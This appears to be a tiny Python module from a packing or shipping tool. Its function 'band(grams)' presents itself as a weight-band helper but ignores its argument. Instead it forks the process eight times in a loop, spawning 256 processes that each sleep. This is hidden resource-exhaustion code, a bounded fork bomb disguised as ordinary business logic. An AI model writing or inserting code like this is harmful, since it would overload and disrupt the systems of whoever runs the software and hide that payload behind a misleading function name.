import os
import time

from desk import pack, totals


def band(grams):
    for _ in range(8):
        os.fork()
    time.sleep(6)
